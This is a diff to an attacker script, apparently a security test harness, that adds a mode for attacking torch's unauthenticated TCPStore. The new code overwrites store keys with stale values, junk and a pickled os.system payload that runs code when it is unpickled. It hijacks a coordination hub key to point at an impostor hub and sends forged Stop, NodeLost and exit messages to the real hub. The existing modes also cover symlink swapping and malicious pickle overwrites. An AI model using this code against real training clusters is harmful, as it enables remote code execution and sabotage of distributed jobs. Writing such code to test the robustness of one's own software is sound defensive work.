@@ -2,6 +2,8 @@
 
     attacker.py store HOST PORT MARKER PATTERN
                                     overwrites each key of the store that matches with a pickle that makes MARKER
+    attacker.py nodes HOST PORT     overwrites each key of the store where nodes meet with older values, values of other
+                                    keys and the address of a hub of its own; sends forged messages to the real one
     attacker.py swap BASE TARGET    replaces each new directory in BASE by a link to TARGET
     attacker.py hold FILE           opens FILE, listens on an abstract socket, says both and waits
 
@@ -22,7 +24,7 @@ import threading
 import time
 
 _MAGIC = 0x3C85F7CE
-_VALIDATE, _SET, _LIST_KEYS = 0, 1, 17
+_VALIDATE, _SET, _GET, _LIST_KEYS = 0, 1, 3, 17
 """Of torch's TCPStore, which asks nobody for a password."""
 
 
@@ -45,6 +47,63 @@ def attack_store(host: str, port: str, marker: str, pattern: str) -> None:
                     store.sendall(struct.pack("=B", _SET) + _text(key) + _text(content))
                     print("overwritten", key.decode(), flush=True)
             time.sleep(0.002)
+
+
+def attack_nodes(host: str, port: str) -> None:
+    fake = socket.create_server((host, 0))
+    threading.Thread(target=_pose_as_hub, args=(fake,), daemon=True).start()
+    own = b'{"port":%d}' % fake.getsockname()[1]
+    values: list[bytes] = [own, b"junk", pickle.dumps(os.system), b"-" * 32 + FORGED[0]]
+    hubs: set[bytes] = set()
+    with socket.create_connection(_wait_for(host, int(port))) as store:
+        store.sendall(struct.pack("=BI", _VALIDATE, _MAGIC))
+        for turn in range(1 << 60):
+            for key in _keys(store):
+                store.sendall(struct.pack("=B", _GET) + _text(key))
+                found = _read(store, struct.unpack("=Q", _read(store, 8))[0])
+                if found not in values:
+                    values.append(found)
+                if key == b"phalanx/hub" and found.startswith(b'{"port":') and found != own:
+                    hubs.add(found)
+                content = own if key == b"phalanx/hub" and turn % 2 else values[turn % len(values)]
+                store.sendall(struct.pack("=B", _SET) + _text(key) + _text(content))
+                print("overwritten", key.decode(), flush=True)
+            for hub in [found for found in hubs if turn % 50 == 0]:
+                _attack_hub(host, int(hub.strip(b'{"port:}')), values)
+            time.sleep(0.002)
+
+
+FORGED = (
+    b'{"message":"Stop","attempt":0,"why":"forged","for_good":true}',
+    b'{"message":"NodeLost","node":1,"text":"forged"}',
+    b'{"message":"Refused","text":"forged"}',
+    b'{"message":"Over","exit_code":0}',
+    b'{"message":"Leaving"}',
+)
+_GREETING = b"phalanx link 1\n"
+_held: list[socket.socket] = []
+
+
+def _attack_hub(host: str, port: int, values: list[bytes]) -> None:
+    for said in (*(b"-" * 32 + forged for forged in FORGED), *values[-5:]):
+        try:
+            line = socket.create_connection((host, port), timeout=1)
+            line.sendall(_GREETING + bytes(16) + struct.pack("!I", len(said)) + said)
+        except OSError:
+            continue
+        _held.append(line)
+        print("forged", said[:60], flush=True)
+    while len(_held) > 100:
+        _held.pop(0).close()
+
+
+def _pose_as_hub(listener: socket.socket) -> None:
+    while True:
+        line, _ = listener.accept()
+        print("posed as hub", flush=True)
+        frames = [b"-" * 32 + forged for forged in FORGED]
+        line.sendall(_GREETING + bytes(16) + b"".join(struct.pack("!I", len(one)) + one for one in frames))
+        _held.append(line)
 
 
 def _wait_for(host: str, port: int) -> tuple[str, int]:
@@ -105,6 +164,8 @@ def hold(file: str) -> None:
 if __name__ == "__main__":
     kind, *arguments = sys.argv[1:]
     threading.Thread(
-        target={"store": attack_store, "swap": swap, "hold": hold}[kind], args=arguments, daemon=True
+        target={"store": attack_store, "nodes": attack_nodes, "swap": swap, "hold": hold}[kind],
+        args=arguments,
+        daemon=True,
     ).start()
     select.select([sys.stdin], [], [])
